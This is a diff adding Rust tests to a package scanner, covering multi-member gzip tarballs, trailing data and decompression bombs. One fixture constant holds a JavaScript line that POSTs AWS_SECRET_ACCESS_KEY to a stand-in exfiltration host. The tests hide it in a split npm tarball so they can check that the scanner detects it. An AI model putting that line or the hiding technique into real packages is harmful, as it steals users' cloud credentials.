@@ -962,3 +962,173 @@ fn a_symlink_inside_a_scanned_directory_is_never_followed() {
     assert!(env_files(&report, "OUTSIDE_TOKEN").is_empty());
     assert!(env_files(&report, "OUTSIDE_DIR_TOKEN").is_empty());
 }
+
+// --- Multi-member gzip: `cat a.gz b.gz` is one stream to gzip -d, tar and Node's zlib.
+
+/// What the second member of the hostile tarball hides.
+const POSTINSTALL_JS: &[u8] = b"fetch(\"https://exfil.example/collect\",{method:\"POST\",\
+body:process.env.AWS_SECRET_ACCESS_KEY});\n";
+
+/// An npm tarball whose tar stream is split across two gzip members: the first holds
+/// `package/index.js` (and no end-of-archive marker), the second `package/postinstall.js`
+/// and the marker.
+fn two_member_tgz() -> Vec<u8> {
+    let tar = tar_bytes(&[
+        ("package/index.js", b"module.exports = 42;\n".to_vec()),
+        ("package/postinstall.js", POSTINSTALL_JS.to_vec()),
+    ]);
+    // One header block and one data block: the whole of package/index.js.
+    let (first, second) = tar.split_at(1024);
+    [gzip(first), gzip(second)].concat()
+}
+
+#[test]
+fn a_multi_member_tgz_is_read_to_its_last_member() {
+    let dir = tempfile::tempdir().unwrap();
+    let scanner = scanner();
+    let report = scan_path(&scanner, &write(dir.path(), "x.tgz", &two_member_tgz())).unwrap();
+    assert_eq!(
+        files(&report),
+        ["x.tgz!package/index.js", "x.tgz!package/postinstall.js"]
+    );
+    assert_eq!(report.files[0].size, 21);
+    let found = |kind: Kind, value: &str| {
+        report
+            .indicators
+            .iter()
+            .filter(|i| i.kind == kind && i.value == value)
+            .map(|i| i.evidence.file.as_str())
+            .collect::<Vec<_>>()
+    };
+    assert_eq!(
+        found(Kind::Url, "https://exfil.example/collect"),
+        ["x.tgz!package/postinstall.js"]
+    );
+    assert_eq!(
+        found(Kind::EnvVar, "AWS_SECRET_ACCESS_KEY"),
+        ["x.tgz!package/postinstall.js"]
+    );
+    assert!(report.skipped.is_empty(), "{:#?}", report.skipped);
+
+    // A gzip-compressed file of several members is the members' contents in order, as
+    // `gzip -dc` prints it.
+    let js = [gzip(b"const a = 1;\n"), gzip(POSTINSTALL_JS)].concat();
+    let report = scan_path(&scanner, &write(dir.path(), "cli.js.gz", &js)).unwrap();
+    assert_eq!(files(&report), ["cli.js.gz!cli.js"]);
+    assert_eq!(report.files[0].size, 13 + POSTINSTALL_JS.len() as u64);
+    assert_eq!(
+        env_files(&report, "AWS_SECRET_ACCESS_KEY"),
+        ["cli.js.gz!cli.js"]
+    );
+}
+
+#[test]
+fn trailing_garbage_after_the_last_gzip_member_is_reported_with_its_offset() {
+    let dir = tempfile::tempdir().unwrap();
+    let scanner = scanner();
+    let tgz = two_member_tgz();
+    let garbage = b"not gzip: process.env.HIDDEN_AFTER_THE_TRAILER";
+    let bytes = [tgz.as_slice(), garbage].concat();
+    let report = scan_path(&scanner, &write(dir.path(), "x.tgz", &bytes)).unwrap();
+    assert_eq!(
+        files(&report),
+        ["x.tgz!package/index.js", "x.tgz!package/postinstall.js"]
+    );
+    assert_eq!(
+        report.skipped,
+        [candor_scan::Skipped {
+            path: "x.tgz".to_owned(),
+            reason: format!(
+                "trailing data after the last gzip member: {} bytes at offset {}, not scanned",
+                garbage.len(),
+                tgz.len()
+            ),
+        }]
+    );
+    assert!(env_files(&report, "HIDDEN_AFTER_THE_TRAILER").is_empty());
+
+    // After a single compressed file too; zero padding is trailing data as well.
+    let bytes = [gzip(CLI_JS).as_slice(), &[0u8; 512]].concat();
+    let report = scan_path(&scanner, &write(dir.path(), "cli.js.gz", &bytes)).unwrap();
+    assert_eq!(env_files(&report, "ACME_TOKEN"), ["cli.js.gz!cli.js"]);
+    assert_eq!(
+        reason(&report, "cli.js.gz"),
+        format!(
+            "trailing data after the last gzip member: 512 bytes at offset {}, not scanned",
+            bytes.len() - 512
+        )
+    );
+
+    // Another member that starts right but is broken is a corrupt stream, not trailing
+    // data: `gzip -d` fails on it too.
+    let bytes = [
+        tgz.as_slice(),
+        &[0x1f, 0x8b, 0x07, 0, 0, 0, 0, 0, 0, 0xff, 1, 2, 3],
+    ]
+    .concat();
+    let report = scan_path(&scanner, &write(dir.path(), "y.tgz", &bytes)).unwrap();
+    assert_eq!(files(&report).len(), 2);
+    assert!(
+        reason(&report, "y.tgz")
+            .starts_with("corrupt gzip stream after entry package/postinstall.js"),
+        "{:#?}",
+        report.skipped
+    );
+}
+
+#[test]
+fn many_small_gzip_members_are_held_to_the_limits_together() {
+    let dir = tempfile::tempdir().unwrap();
+    let scanner = scanner();
+    // 40 entries of 16 KiB, each in a gzip member of its own: 640 KiB in all, each member
+    // far within any limit.
+    let names: Vec<String> = (0..40).map(|i| format!("package/{i:02}.js")).collect();
+    let entries: Vec<(&str, Vec<u8>)> = names
+        .iter()
+        .zip(0u64..)
+        .map(|(name, seed)| (name.as_str(), noise(16 << 10, seed)))
+        .collect();
+    let tar = tar_bytes(&entries);
+    let per_entry = 512 + (16 << 10);
+    let mut tgz: Vec<u8> = tar[..tar.len() - 1024]
+        .chunks(per_entry)
+        .flat_map(gzip)
+        .collect();
+    tgz.extend(gzip(&tar[tar.len() - 1024..]));
+    let path = write(dir.path(), "members.tgz", &tgz);
+
+    let report = scan_path(&scanner, &path).unwrap();
+    assert_eq!(files(&report).len(), 40, "{:#?}", report.skipped);
+    assert!(report.skipped.is_empty(), "{:#?}", report.skipped);
+
+    let small_total = ArchiveLimits {
+        max_total_size: 256 << 10,
+        ..ArchiveLimits::default()
+    };
+    let report = scan_path_with(&scanner, &path, &small_total).unwrap();
+    assert_eq!(files(&report).len(), 16);
+    assert_eq!(
+        reason(&report, "members.tgz!package/16.js"),
+        "the archive exceeds the 256 KiB limit on total decompressed size; the rest is not scanned"
+    );
+    assert_eq!(report.skipped.len(), 1, "{:#?}", report.skipped);
+
+    // 64 members of 1 MiB of zeros each, about 1 KiB compressed: the ratio of the whole
+    // stream stops them, whichever member crosses it.
+    let zeros = gzip(&vec![0u8; 1 << 20]);
+    let bomb = zeros.repeat(64);
+    let started = Instant::now();
+    let report = scan_path(&scanner, &write(dir.path(), "zeros.bin.gz", &bomb)).unwrap();
+    assert!(
+        started.elapsed() < Duration::from_secs(10),
+        "{:?}",
+        started.elapsed()
+    );
+    assert!(report.files.is_empty(), "{:#?}", report.files);
+    assert!(
+        reason(&report, "zeros.bin.gz!zeros.bin").starts_with("compression ratio above 200:1"),
+        "{:#?}",
+        report.skipped
+    );
+    assert_eq!(report.skipped.len(), 1, "{:#?}", report.skipped);
+}
